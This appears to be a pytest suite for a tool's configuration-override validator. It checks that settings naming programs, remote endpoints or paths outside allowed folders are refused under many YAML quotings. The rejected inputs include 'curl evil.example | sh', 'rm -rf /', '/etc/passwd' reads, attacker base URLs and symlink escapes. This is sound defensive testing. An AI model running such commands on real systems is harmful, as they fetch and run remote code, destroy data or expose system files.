"""What a request may reach: files inside the folders, and no programs."""

import json
from collections.abc import Callable
from itertools import product
from pathlib import Path

import pytest

from skillfit.config import describe_keys
from skillfit.config.reading import parse_override, text_keys
from skillfit.config.yaml_source import read_source, walk
from skillfit.errors import InputError
from skillfit.plugins.studio.commands import (
    Folders,
    OutsideFolders,
    check_run_name,
    checked_overrides,
)
from skillfit.plugins.studio.new_run import NewRun, form_fields
from skillfit.tasks.rows import SUFFIXES
from tests.report.recorded_runs import screening_run


@pytest.mark.parametrize(
    "override",
    [
        "env.tasks=command: curl evil.example | sh",
        "env.tasks= command : ls",
        "env.tasks=../outside.py:items",
        "env.tasks=tasks.py",
        "env.tasks=/etc/passwd",
        "env.tasks=~/secret.jsonl",
        "env.tasks=inspect:evil",
        "env.grader=evil.py:grade",
        "env.grader=package.module:grade",
        "env.grader={all: [exact, {command: rm -rf /}]}",
        "env.grader={mean: [{python: {file: grade.py}}]}",
        "env.grader={python: 'sub/compiled.pyc:grade'}",
        "env.grader={all: [exact, {python: {path: 'sub/compiled.pyc:grade'}}]}",
        "env.skill=../../other",
        "env.folder=/",
        "env.agent=cli",
        "env.agent=agent.py:solve",
        "evaluation.gate=gate.py:Gate",
        "evaluation.ship_grader=judge.py:grade",
        "model.agent=cli/claude",
        "model.agent={id: cli/claude}",
        "model.agent={id: openai/gpt-5, base_url: http://evil.example}",
        "model.agent.base_url=http://evil.example",
        "model.agent.options={program: sh}",
        "model.agent.options.program=sh",
        "model.agent.key_env=HOME",
        "model.agent=scripted//etc/passwd",
        "model={agent: cli/claude}",
        "executor=ray://evil.example:1",
        "_base_=/etc/passwd",
        "--force-new",
        "no equals sign",
    ],
)
def test_overrides_with_programs_endpoints_or_outside_paths_are_refused(
    tmp_path: Path, override: str
) -> None:
    with pytest.raises(InputError):
        checked_overrides(Folders.of(tmp_path), [override])


# One text written in ways that YAML reads as that text.
QUOTINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "spaces": lambda text: f"   {text}   ",
    "double": json.dumps,
    "escaped": lambda text: '"' + "".join(f"\\x{ord(char):02x}" for char in text) + '"',
    "single": lambda text: f"'{text}'",
    "tag": lambda text: f"!!str '{text}'",
    "anchor": lambda text: f"&x '{text}'",
    "folded": lambda text: f">-\n  {text}",
    "comment": lambda text: f"'{text}' # harmless",
    "document": lambda text: f"--- '{text}'",
}
KEYS = [key.key for key in describe_keys()]
CODE = ("command: touch X", "evil.py:grade", "./sub/evil.py:Make", "os.path:join")
OUTSIDE = (
    "../outside",
    "/etc/passwd",
    "~nobody-of-this-name",
    "link/x",
    " /etc/motd.txt",
    "../outside.md\n",
    "file:///etc/passwd",
)


def folder_with_link(folder: Path) -> Folders:
    """A folder in which `link` leads outside."""
    inside = folder / "inside"
    inside.mkdir()
    (inside / "link").symlink_to("/etc")
    return Folders.of(inside)


@pytest.mark.parametrize("quoting", QUOTINGS)
def test_no_setting_takes_programs_or_outside_paths_however_they_are_quoted(
    tmp_path: Path, quoting: str
) -> None:
    """New settings are tried too: the keys are those of the schema."""
    folders = folder_with_link(tmp_path)
    for key, text in product(KEYS, (*CODE, *OUTSIDE)):
        if key == "env.prompt" and text in OUTSIDE:
            continue  # it is no path
        section, _, name = key.rpartition(".")
        quoted = QUOTINGS[quoting](text)
        words = [f"{key}={quoted}", f"{key}.some={quoted}"]
        if quoting in ("double", "escaped", "single", "tag", "anchor"):  # fit into brackets
            if key not in text_keys():
                words += [f"{key}={{some: {quoted}}}", f"{key}=[{quoted}]"]
            words += [f"{section}={{{name}: {quoted}}}"] if section else []
            words += [f"{section}={{<<: {{{name}: {quoted}}}}}"] if section else []
        for word in words:
            with pytest.raises(InputError):
                checked_overrides(folders, [word])
                pytest.fail(word)


@pytest.mark.parametrize("quoting", QUOTINGS)
def test_a_form_passes_on_the_values_that_were_checked(tmp_path: Path, quoting: str) -> None:
    """A quoted text in a form is no YAML: it is refused, or means itself, with the quotes."""
    folders = folder_with_link(tmp_path)
    for one, text in product(form_fields(), (*CODE, *OUTSIDE)):
        for typed in (QUOTINGS[quoting](text), f"{{some: {QUOTINGS[quoting](text)}}}"):
            form = {"name": "new", f"set:{one.key}": typed}
            try:
                filled = NewRun.from_form(form)
                filled.check(folders)
            except InputError:
                continue
            [given] = filled.settings.items()
            if one.key != "env.prompt":
                assert text not in [value for _, value in walk(dict([given]))]
            assert [parse_override(word) for word in filled.overrides()] == [given]
            (tmp_path / "new.yaml").write_text(filled.yaml_text())
            assert given in list(walk(read_source(tmp_path / "new.yaml").data))


@pytest.mark.parametrize("quoting", QUOTINGS)
def test_the_command_reads_the_values_that_were_checked(tmp_path: Path, quoting: str) -> None:
    quoted = QUOTINGS[quoting]
    words = [
        f"env.skill={quoted('triage')}",
        f"env.prompt={quoted('Use this: {skill}')}",
        f"train.sampler={quoted('1e5')}",
        'env.prompt="a\\u2028b\\tc\\x7f \\U0001F600 "',
        "train.seed=0x10",
        "budget.usd=.5",
        "env.fields={input: 'a: b', answers: \"c\\x41\"}",
        "evaluation.must_pass=[1, '1', true]",
        "env.grader=null",
        "env.skill=",
    ]
    checked = checked_overrides(Folders.of(tmp_path), words)
    assert [parse_override(word) for word in checked] == [parse_override(word) for word in words]


@pytest.mark.parametrize(
    "override",
    [
        "env.skill_init=SKILL.md",  # words of SkillOpt
        "env={split_dir: data}",
        "model.target_backend=claude_code",
        "out_root=runs",
        "env.sandbox='off'",
        "env.tasks=searchqa:/etc/passwd",
        "env.tasks=searchqa?path=%2Fetc%2Fpasswd",
        "env.tasks=inspect?task=evil",
        "env.corpus=/etc",
        "model.agent=local/../x.gguf",
        "env.skill=\ud800",
        "env.grader=[unclosed",
    ],
)
def test_values_that_have_other_meanings_elsewhere_are_refused(
    tmp_path: Path, override: str
) -> None:
    with pytest.raises(InputError):
        checked_overrides(Folders.of(tmp_path), [override])


def test_ordinary_overrides_are_allowed(tmp_path: Path) -> None:
    (tmp_path / "triage").mkdir()
    checked_overrides(
        Folders.of(tmp_path),
        [
            "train.num_epochs=2",
            "env.skill=./triage",
            "env.tasks=tasks.jsonl",
            "env.agent=tools",
            "env.grader={all: [exact, {contains: {ignore_case: true}}]}",
            "model.agent=openai/gpt-5-mini",
            "model.agent={id: openai/gpt-5-mini, temperature: 0}",
            "budget.usd=3",
            "evaluation.gate=strict",
        ],
    )


def test_links_are_resolved_before_paths_are_checked(tmp_path: Path) -> None:
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    (inside / "link").symlink_to(outside)
    folders = Folders.of(inside)
    assert folders.resolve("a/b") == inside / "a" / "b"
    for path in ("..", "../outside", "link", "link/x", "/etc", str(outside), "a/../../outside"):
        with pytest.raises(OutsideFolders):
            folders.resolve(path)
    with pytest.raises(OutsideFolders):
        folders.resolve("a\x00b")


def test_a_nested_folder_adds_nothing(tmp_path: Path) -> None:
    (tmp_path / "runs").mkdir()
    assert Folders.of(tmp_path, tmp_path / "runs").roots == (tmp_path.resolve(),)


def test_skills_tasks_and_configs_are_found_but_not_those_of_runs(tmp_path: Path) -> None:
    for name in ("triage", "runs/one/copy", ".hidden", "node_modules/x"):
        (tmp_path / name).mkdir(parents=True)
        (tmp_path / name / "SKILL.md").write_text("# x")
    screening_run(tmp_path / "runs" / "one", steps=1, items=2, rollouts=2)
    (tmp_path / "tasks.jsonl").write_text("{}")
    (tmp_path / "skillfit.yaml").write_text("env: {}\n")
    (tmp_path / "other.yaml").write_text("services: {}\n")
    folders = Folders.of(tmp_path)
    assert [folders.shown(path) for path in folders.skills()] == ["triage"]
    assert [folders.shown(path) for path in folders.tasks()] == ["tasks.jsonl"]
    assert [folders.shown(path) for path in folders.configs()] == ["skillfit.yaml"]


def test_every_file_format_of_tasks_is_offered(tmp_path: Path) -> None:
    names = [f"tasks{suffix}" for suffix in SUFFIXES]
    for name in [*names, "evals.json", "notes.txt"]:
        (tmp_path / name).write_text("")
    offered = [path.name for path in Folders.of(tmp_path).tasks()]
    assert sorted(offered) == sorted([*names, "evals.json"])


@pytest.mark.parametrize("name", ["", "..", "a/b", "../x", ".hidden", "a\x00", "x" * 81, "a b"])
def test_run_names_with_special_characters_are_refused(name: str) -> None:
    with pytest.raises(InputError):
        check_run_name(name)
